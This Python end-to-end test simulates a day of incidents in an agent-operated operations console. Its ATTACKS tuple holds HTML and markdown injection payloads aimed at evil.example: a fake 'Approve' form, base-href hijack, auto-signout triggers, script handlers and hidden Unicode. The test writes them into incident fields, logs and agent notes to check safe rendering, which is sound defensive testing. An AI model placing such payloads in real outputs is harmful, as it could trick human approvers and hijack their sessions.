"""A day in a world: incidents in each state, requests that wait, and an agent that writes markup wherever it can write."""

import json
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from tests.e2e.console.test_reviewing import proposed as restart
from tests.e2e.console.test_reviewing_words import OWN, written
from tests.e2e.test_breakglass import ask
from tests.e2e.test_incidents import alert, claim, finish, opened, post, send
from tests.e2e.test_remedies import QUICK, mended, proposed
from tests.sim.policies import HOSTILE_CHANGES, built, folder_of, sent
from tests.sim.troubled import Counters, Troubled
from tests.sim.world import World

EXTRA = QUICK + "[events]\npace_seconds = 0.05\nlook_seconds = 0.1\ndecide_seconds = 0.5\nheartbeat_seconds = 1\n"
ATTACKS = (
    *OWN,
    "</pre></td></table></main><form action=//evil.example><button autofocus>Approve</button></form>",
    "<a href=//evil.example>x</a><style>*{display:none}</style><base href=//evil.example>",
    "<div hx-get=/console/signout hx-trigger=load hx-on:load=alert(1)></div><iframe src=//evil.example></iframe>",
    "<script>window.ran=1</script><svg><animate onbegin=window.ran=1></svg><math><mtext></mtext></math>",
    "![x](https://evil.example/p.png) <https://evil.example> \u0000\u0008\x9b2J\u061c\ufeff\U000e0041",
)
"""What an agent may write to act on whoever reads it."""
ATTACK = "\n".join(ATTACKS)


def naughty() -> list[str]:
    """The corpus of naughty strings, a few long texts; without the corpus the attacks alone."""
    path = Path(os.environ.get("CORPUS_DIR", "")) / "blns" / "blns.json"
    strings = [one for one in json.loads(path.read_text()) if one] if path.is_file() else []
    return [ATTACK, *("\n".join(strings[at : at + 60])[:3_900] for at in range(0, len(strings), 60))]


async def a_day(it: World) -> dict[str, Any]:
    """Everything, in the order in which it would happen; ids by name."""
    counters = Counters()
    kept: dict[str, Any] = {"closed": await _mended_incident(it, counters)}
    kept["awaiting"], kept["evidence"] = await _waiting_incident(it, counters)
    kept["hostile"], kept["observation"] = await _hostile_incident(it)
    kept["linked"] = await opened(it)
    agent, oncall = await it.agent(), await it.person("oncall")
    taken = {"kind": "take_over", "text": "mine"}
    answer = await post(it, oncall, f"/v1/incidents/{kept['hostile']}/events", taken)
    assert answer.status_code == 201, answer.text
    kept["alike"] = [(await restart(it, agent))["approval"]["id"] for _ in range(2)]
    kept["written"] = (await written(it, json.dumps(ATTACKS, indent=1) + "\n", ATTACK[:4_000]))["id"]
    kept["own"] = (await restart(it, oncall, id_="storefront"))["approval"]["id"]
    refused = await it.act(agent, "local.process.restart", await it.session(agent), id_="nothing-like-it")
    assert refused.status_code == 403, refused.text
    auditor = await it.person("auditor")
    asked = {"form": "jsonl", "reason": ATTACK[:1_000]}
    answer = await it.client.post("/v1/exports", json=asked, headers={**auditor, **it.key()})
    assert answer.status_code in (200, 201, 202), answer.text
    stopped = {"scope": "agent", "target": "dev:agent-2", "reason": ATTACK[:1_000]}
    answer = await it.client.post("/v1/kill", json=stopped, headers={**oncall, **it.key()})
    assert answer.status_code == 200, answer.text
    assert (await ask(it, oncall, reason=ATTACK[:1_000])).status_code == 201
    bundle = built(it, folder_of(it.folder / "next-policy", HOSTILE_CHANGES), "7000000000")
    waiting = await sent(it, await it.person("security"), bundle, ATTACK[:1_000])
    assert waiting.status_code == 202, waiting.text
    await it.gate.background.sweep()
    await it.gate.background.work_off()
    return kept


def _iso(at: int) -> str:
    return datetime.fromtimestamp(at, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


async def _broken(it: World, name: str) -> None:
    it.supervisor.caches[name] = b"rotten"
    child = it.supervisor.children[name]
    child.running.kill()
    await child.running.wait()


async def _mended_incident(it: World, counters: Counters) -> str:
    """Found, mended, measured, over."""
    await _broken(it, "checkout")
    trouble = Troubled(it, counters)
    await trouble.open()
    await trouble.diagnose()
    body = await proposed(trouble)
    if body["status"] == "waiting":
        assert (await it.review(await it.person("oncall"), body["approval"])).status_code == 200
        assert (await it.outcome(trouble.agent, body["action_id"])).json()["status"] == "done"
    await mended(trouble)
    await trouble.pass_time(120, step=20)
    assert await trouble.state() == "closed", await trouble.state()
    return trouble.incident


async def _waiting_incident(it: World, counters: Counters) -> tuple[str, str]:
    """Its remedy waits for a person, with evidence."""
    await _broken(it, "inventory")
    trouble = Troubled(it, counters)
    it.supervisor.series = counters
    counters.set("inventory", trouble.now - 60, 0.5)
    labels = {"alertname": "ErrorRate", "service": "inventory", "env": "prod", "severity": "critical"}
    said = alert(labels=labels, startsAt=_iso(trouble.now - 60), fingerprint="00000000000000aa")
    [trouble.incident] = (await send(it, await it.agent("alerts-1"), said)).json()["incidents"]
    trouble.agent = await it.agent()
    await trouble.diagnose("inventory", sure=False)
    body = await proposed(trouble, id_="inventory")
    assert body["status"] == "waiting", body
    return trouble.incident, body["approval"]["id"]


async def _hostile_incident(it: World) -> tuple[str, str]:
    """Whoever reported it, and the agent in it, wrote an attack into every field."""
    said: dict[str, Any] = {
        "title": f"T {ATTACKS[0]}"[:200],
        "service": "checkout",
        "env": "staging",
        "labels": {"note": ATTACK.replace("\x1b", "").replace("\u0000", "")[:1_000]},
        "annotations": {"summary": ATTACK[:1_000]},
        "source": "sim",
    }
    reported = await post(it, await it.agent("alerts-1"), "/v1/incidents", said)
    assert reported.status_code == 201, reported.text
    incident = str(reported.json()["incident"])
    agent = await it.agent()
    held = await claim(it, agent)
    assert held["subject"] == incident, held
    assert (await finish(it, agent, held, "investigating", text=ATTACK, why=ATTACK)).status_code == 200
    held = await claim(it, agent)
    session = held["session"]
    stamp = _iso(it.clock.now_ns() // 10**9)
    with (it.folder / "logs" / "checkout.log").open("a") as log:
        log.write("".join(f"{stamp} level=error msg={one}\n".replace("\n", " ") + "\n" for one in ATTACKS))
    looked = await it.act(agent, "local.logs.search", session, {"window_seconds": 3600}, env="staging")
    assert looked.status_code == 200, looked.text
    seen = looked.json()["observation"]
    claims = [{"observation": seen, "selector": "$.state", "op": "eq", "value": ATTACK, "text": ATTACK}]
    rivals = [{"component": "payments", "fault": "crash-loop", "claims": [0], "why": ATTACK}]
    cause = {"component": ATTACKS[0][:64], "fault": "crash-loop", "summary": ATTACK}
    told = {"cause": cause, "claims": claims, "ruled_out": rivals, "session": session}
    answer = await post(it, agent, f"/v1/incidents/{incident}/diagnoses", told)
    assert answer.status_code == 201, answer.text
    for text in naughty():
        note = {"kind": "note", "text": text, "session": session}
        answer = await post(it, agent, f"/v1/incidents/{incident}/events", note)
        assert answer.status_code in {201, 400}, answer.text
        it.clock.advance(1)
    return incident, seen
